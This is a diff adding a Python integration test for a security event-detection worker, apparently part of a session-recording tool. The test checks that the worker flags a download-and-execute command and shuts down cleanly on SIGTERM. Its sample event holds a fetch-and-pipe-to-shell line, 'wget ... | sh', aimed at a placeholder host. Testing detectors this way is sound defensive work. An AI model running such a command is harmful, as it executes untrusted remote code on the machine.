@@ -5,6 +5,9 @@ JSON-lines sink subscribed to ``alert.*`` (the siem sink worker, in-process)."""
 from __future__ import annotations
 
 import random
+import signal
+import subprocess
+import sys
 import threading
 import time
 from pathlib import Path
@@ -250,3 +253,39 @@ def test_five_failed_logins_by_one_user_within_a_minute_store_one_correlation_al
     assert sorted(corr["matched_uids"]) == sorted(f"login-mallory-{i}" for i in range(5))
     # The base rule only feeds the correlation (generate: false): no alert of its own.
     assert FAILED_LOGIN_BASE not in {a["rule_id"] for a in alerts}
+
+
+def test_worker_detect_cli_produces_alerts_and_stops_cleanly_on_sigterm(
+    settings: Settings, sv_env: dict[str, str]
+) -> None:
+    cmd = {
+        "sv_version": 1,
+        "tenant": settings.tenant,
+        "event": "exec",
+        "code": "T3002I",
+        "uid": "exec-1",
+        "sid": "cli-session",
+        "time": "2026-05-04T08:00:01Z",
+        "command": "wget -qO- https://x.example/i.sh | sh",
+    }
+    produce_events(settings, [cmd])
+    exe = Path(sys.executable).parent / "sessionvault"
+    proc = subprocess.Popen(
+        [str(exe), "worker", "detect", "--status-every", "0.5"],
+        env=sv_env,
+        stdout=subprocess.PIPE,
+        stderr=subprocess.PIPE,
+    )
+    try:
+        deadline = time.monotonic() + 60
+        while not drained(settings, [settings.topic_events], "detect"):
+            assert proc.poll() is None, proc.stderr.read().decode() if proc.stderr else ""
+            assert time.monotonic() < deadline, "the CLI worker did not drain the topic"
+            time.sleep(0.5)
+    finally:
+        proc.send_signal(signal.SIGTERM)
+        _, err = proc.communicate(timeout=60)
+    assert proc.returncode == 0, err.decode()
+    assert b"stopped after 2 records, 1 alerts" in err
+    alerts = alerts_on_kafka(settings)
+    assert [(a["rule_id"], a["matched_uid"]) for a in alerts] == [(CURL_RULE, "exec-1")]
